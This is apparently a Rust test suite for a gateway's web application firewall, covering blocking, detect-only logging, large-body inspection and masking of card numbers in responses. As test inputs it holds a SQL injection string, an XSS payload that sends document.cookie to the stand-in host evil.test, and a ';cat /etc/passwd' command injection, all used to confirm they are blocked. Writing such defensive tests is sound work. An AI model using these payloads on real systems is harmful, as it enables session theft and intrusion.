//! The WAF through the real gateway: head and body blocks, detect mode, large bodies, DLP.

use crate::support::{client, pool, Backend, Gateway};

fn config(app: &Backend) -> String {
    format!(
        "access_log: {{ enabled: true }}\n{}routes:
  - name: watch
    match: {{ path_prefix: /watch }}
    upstream: pool
    waf: {{ mode: detect }}
  - name: dlp
    match: {{ path_prefix: /echo }}
    upstream: pool
    waf: {{ mode: block, response_dlp: {{ action: mask, detect: [cards] }} }}
  - name: api
    upstream: pool
    waf: {{ mode: block, body: {{ inspect_bytes: 65536 }} }}
",
        pool(&[(app, 1)], "")
    )
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn attacks_in_query_and_body_are_blocked_before_the_backend() {
    let app = Backend::start("app").await;
    let gw = Gateway::start(&config(&app)).await;
    let c = client();

    let r = c
        .get(gw.url("/items?id=1%27%20OR%201%3D1--"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 403);
    let body: serde_json::Value = r.json().await.unwrap();
    assert_eq!(body["error"]["code"], "waf_blocked");
    assert_eq!(app.hits(), 0);

    let r = c
        .post(gw.url("/comments"))
        .header("content-type", "application/json")
        .body(r#"{"post": 7, "comment": {"text": "<script>document.location='//evil.test/?c='+document.cookie</script>"}}"#)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 403, "XSS nested in a JSON body");
    assert_eq!(app.hits(), 0, "the backend never got a complete request");

    // Benign near-misses pass with their body intact.
    let benign =
        r#"{"name": "Siobhan O'Brien", "note": "please select the blue one, or the red one"}"#;
    let r = c
        .post(gw.url("/people"))
        .header("content-type", "application/json")
        .body(benign)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    assert_eq!(
        r.text().await.unwrap(),
        format!("app POST /people {}\n", benign.len())
    );

    // A body larger than the inspected prefix is inspected up to the cap, then streamed whole.
    let big = format!("data={}", "a".repeat(300_000));
    let r = c
        .post(gw.url("/upload"))
        .header("content-type", "application/x-www-form-urlencoded")
        .body(big.clone())
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    assert_eq!(
        r.text().await.unwrap(),
        format!("app POST /upload {}\n", big.len())
    );

    // An attack inside the inspected prefix of a large body is still caught.
    let hits = app.hits();
    let evil = format!("cmd=;cat /etc/passwd&pad={}", "b".repeat(200_000));
    let r = c
        .post(gw.url("/upload"))
        .header("content-type", "application/x-www-form-urlencoded")
        .body(evil)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 403);
    assert_eq!(app.hits(), hits);

    let lines = gw.wait_log_lines(5).await;
    let blocked = lines
        .iter()
        .find(|l| l["status"] == 403)
        .expect("a blocked line");
    assert_eq!(blocked["deny_reason"], "waf_blocked");
    assert!(
        blocked["deny_detail"].as_str().unwrap().contains("rules="),
        "{blocked}"
    );
    assert!(
        gw.metric("portcullis_waf_findings_total", &["action=\"blocked\""])
            .await
            >= 3.0
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn detect_mode_logs_and_counts_but_serves() {
    let app = Backend::start("app").await;
    let gw = Gateway::start(&config(&app)).await;
    let r = client()
        .get(gw.url("/watch?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    assert_eq!(app.hits(), 1);
    let lines = gw.wait_log_lines(1).await;
    assert!(
        lines[0]["waf"]
            .as_str()
            .is_some_and(|w| w.contains("rules=")),
        "{}",
        lines[0]
    );
    assert!(
        gw.metric(
            "portcullis_waf_findings_total",
            &["route=\"watch\"", "action=\"detected\""]
        )
        .await
            >= 1.0
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn response_dlp_masks_card_numbers_and_asks_for_identity_encoding() {
    let app = Backend::start("app").await;
    let gw = Gateway::start(&config(&app)).await;
    let leaked = "order 17 paid with 4111 1111 1111 1111 on Monday";
    let r = client()
        .post(gw.url("/echo"))
        .header("content-type", "text/plain")
        .header("accept-encoding", "gzip")
        .body(leaked)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    let text = r.text().await.unwrap();
    assert_eq!(text.len(), leaked.len(), "masked in place: {text}");
    assert!(!text.contains("4111 1111 1111 1111"), "{text}");
    assert!(text.starts_with("order 17 paid with "), "{text}");
    assert_eq!(app.last().header("accept-encoding"), None);
    // A number that fails the Luhn check is left alone.
    let fine = "ticket 4111 1111 1111 1112 closed";
    let r = client()
        .post(gw.url("/echo"))
        .header("content-type", "text/plain")
        .body(fine)
        .send()
        .await
        .unwrap();
    assert_eq!(r.text().await.unwrap(), fine);
    assert!(
        gw.metric("portcullis_dlp_total", &["action=\"masked\""])
            .await
            >= 1.0
    );
}
